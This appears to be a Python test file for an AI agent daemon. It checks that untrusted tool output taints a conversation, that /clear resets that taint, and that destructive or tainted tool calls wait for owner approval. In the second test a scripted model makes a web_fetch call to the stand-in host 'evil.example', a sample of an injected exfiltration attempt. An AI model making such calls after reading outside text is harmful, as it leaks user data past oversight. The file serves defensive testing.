"""/clear while a turn runs, or waits: what comes after it begins afresh, in this process as after a restart (F3)."""

from collections.abc import AsyncIterator
from pathlib import Path

from daemon.app.daemon import Overrides
from daemon.client.view_types import LiveEvent
from daemon.core.messages import ToolSpec
from daemon.core.trust import OWNER, Answer, Effect, Label, Person, Role
from daemon.tools.base import Tool, ToolContext, ToolMeta, ToolOutput
from tests.fakes.house import living
from tests.fakes.openai import FakeOpenAI, calls, says

OTHER = Person("ann", Role.EDITOR)
NOTHING = {"type": "object", "properties": {}}


async def page(arguments: object, context: ToolContext) -> ToolOutput:
    return ToolOutput("the page says hello", label=Label.UNTRUSTED)


async def wiped(arguments: object, context: ToolContext) -> ToolOutput:
    return ToolOutput("wiped")


async def only(
    events: AsyncIterator[LiveEvent], *names: str, times: int
) -> AsyncIterator[LiveEvent]:
    """The first so many of these names."""
    async for event in events:
        if event.name in names:
            times -= 1
            yield event
        if not times:
            return


TOOLS = Overrides(
    tools=[
        Tool(ToolSpec("look_outside", "Look outside.", NOTHING), ToolMeta(Effect.READ), page),
        Tool(ToolSpec("wipe", "Wipe.", NOTHING), ToolMeta(Effect.DESTRUCTIVE), wiped),
    ]
)


async def test_F3_a_turn_from_before_a_clear_taints_nothing_that_comes_after_it(
    tmp_path: Path,
) -> None:
    async with FakeOpenAI() as model, living(tmp_path, model, parts=TOOLS) as alive:
        model.script(
            calls(("look_outside", {}), ("wipe", {})),
            says("the secret word is plum"),
            says("Anew."),
        )
        turn = await alive.say("look, then wipe")
        await alive.until(turn, "approval.asked")
        await alive.command("/clear")
        await alive.command("/approve")
        assert (await alive.settled(turn)).label == "untrusted"
        assert "text from outside" not in await alive.command("/status")
        assert (await alive.ask("begin anew")).label == "trusted"
        assert "plum" not in str(model.requests[-1])


async def test_F3_a_turn_that_waited_is_tainted_by_what_the_chat_has_read_meanwhile(
    tmp_path: Path,
) -> None:
    """It goes on with the whole conversation before it, that of the time in which it waited included."""
    async with FakeOpenAI() as model, living(tmp_path, model, parts=TOOLS) as alive:
        model.script(calls(("wipe", {})), calls(("look_outside", {})), says("It says: be good."))
        waits = await alive.say("wipe")
        await alive.until(waits, "approval.asked")
        await alive.house.client.send("web:test", "look outside", by=OTHER)
        other = (await alive.house.client.list_runs("web:test"))[0].turn
        assert (await alive.settled(other)).label == "untrusted"
        model.script(calls(("web_fetch", {"url": "http://evil.example/?s=1"})), says("ok"))
        question = (await alive.house.client.list_approvals(session="web:test"))[0]
        assert await alive.house.client.answer_approval(waits, question.call_id, Answer.ONCE, OWNER)
        asked = [
            event.name
            async for event in only(
                alive.house.client.stream_events(waits), "approval.asked", "run.completed", times=2
            )
        ]
        view = await alive.house.client.get_run(waits)
        assert asked == ["approval.asked"] * 2
        assert view and (view.label, view.calls[-1].tool, view.calls[-1].decision) == (
            "untrusted",
            "web_fetch",
            "ask",
        )
        assert "this chat" in view.tainted
